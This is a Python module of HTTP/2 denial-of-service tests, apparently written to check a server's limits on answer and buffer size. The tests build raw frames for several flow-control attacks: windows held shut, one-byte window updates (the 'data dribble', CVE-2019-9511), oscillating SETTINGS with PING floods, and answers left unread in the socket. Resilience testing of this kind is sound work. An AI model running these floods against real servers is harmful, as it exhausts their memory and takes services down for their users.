# SPDX-License-Identifier: Apache-2.0
"""Windows: closed, of a byte, opened and closed, and answers that nobody reads."""

import time

from support.attacks import Steps, Target, attack
from support.attacks.content import (
    block_of_stream, first_of_stream, small_request, unscorable_request)
from support.attacks.raw import (
    GREATEST, GZIP, HEALTH, INITIAL_WINDOW, SCORE_ROWS, STREAM_SCORE_ROWS, WIDE, Raw, call, hold,
    message, packed)
from support.http2_frames import PING, PREFACE, frame, setting, window
from support.raw_http2 import Connection, framed

CALLS = 256
CLOSED = PREFACE + setting((INITIAL_WINDOW, 0)) + window(0, GREATEST - 65_535)


def closed_calls(target: Target, connections: int, requested: bytes) -> list[Raw]:
    """Connections whose calls are answered and may not send."""
    calls = b"".join(call(1 + 2 * n, SCORE_ROWS, requested, more=GZIP) for n in range(CALLS))
    return [Raw(target, CLOSED + calls) for _ in range(connections)]


@attack(lambda it: it.answerBytesMax)
def windows_that_stay_closed(target: Target) -> Steps:
    """5,120 answers that wait for a window."""
    raws = closed_calls(target, 20, message(small_request(target, 60)))
    yield CALLS * len(raws)
    yield from hold(*raws)


@attack(lambda it: it.answerBytesMax)
def windows_of_a_byte(target: Target) -> Steps:
    """Data dribble (CVE-2019-9511): each byte of an answer is asked for by itself."""
    raws = closed_calls(target, 4, message(small_request(target, 60)))
    drops = b"".join(window(1 + 2 * n, 1) for n in range(CALLS))
    while True:
        for number, raw in enumerate(raws):
            if raw.is_over:
                raw.close()
                raws[number] = closed_calls(target, 1, message(small_request(target, 60)))[0]
            raw.send(drops)
            yield CALLS


@attack(lambda it: it.answerBytesMax)
def windows_that_open_and_close(target: Target) -> Steps:
    """SETTINGS that change the windows of 256 calls, to and fro."""
    changes = setting((INITIAL_WINDOW, 1)) + setting((INITIAL_WINDOW, 0))
    ping = frame(PING, payload=b"12345678")
    while True:
        raw = closed_calls(target, 1, message(small_request(target, 60)))[0]
        while raw.send((changes + ping) * 10):
            yield 20
        raw.close()
        yield 1


@attack(lambda it: it.answerBytesMax + it.assemblyBytesMax)
def answers_that_nobody_reads(target: Target) -> Steps:
    """A kilobyte a call asks for answers of megabytes, which are left in the socket."""
    request = packed(unscorable_request(target))
    calls = b"".join(call(1 + 2 * n, SCORE_ROWS, request, more=GZIP) for n in range(103))
    raws = []
    while True:
        if len(raws) < 4:
            raws.append(Raw(target, WIDE + calls, reads=False))
            yield 103
        yield 0
        time.sleep(0.1)


@attack(lambda it: it.answerBytesMax + it.assemblyBytesMax)
def three_slow_readers(target: Target) -> Steps:
    """Streams that send and do not read; a neighbour on the connection must be answered."""
    # Of one column, so that answers are longer than requests.
    block = framed(block_of_stream(target, 20_000, 1))
    while True:
        with Connection(target) as connection:
            session = connection.session
            session.receive_data(connection.socket.recv(65_536))
            # Of the connection there is window enough; of the streams it is never opened.
            session.increment_flow_control_window(1 << 26)
            first = framed(first_of_stream(target, 1))
            streams = [connection.send(STREAM_SCORE_ROWS, first, end=False) for _ in range(3)]
            for stream in streams:
                pump(connection, stream, block)
            for _ in range(20):
                answered = connection.receive(connection.send(HEALTH, framed(b"")))
                assert answered.status == 0, answered
                body = framed(small_request(target, 50))
                answered = connection.receive(connection.send(SCORE_ROWS, body))
                assert answered.status == 0, answered
                yield 2


def pump(connection: Connection, stream: int, block: bytes) -> None:
    """Sends blocks on a stream until its window is used up, and grants the answers none."""
    session, waiting = connection.session, block
    connection.socket.settimeout(0.2)
    quiet = 0
    while quiet < 3:
        room = min(session.local_flow_control_window(stream), session.max_outbound_frame_size)
        if room > 0:
            session.send_data(stream, waiting[:room])
            waiting = waiting[room:] or block
            connection.flush()
            continue
        try:
            session.receive_data(connection.socket.recv(65_536))
        except TimeoutError:
            quiet += 1
    connection.socket.settimeout(60)
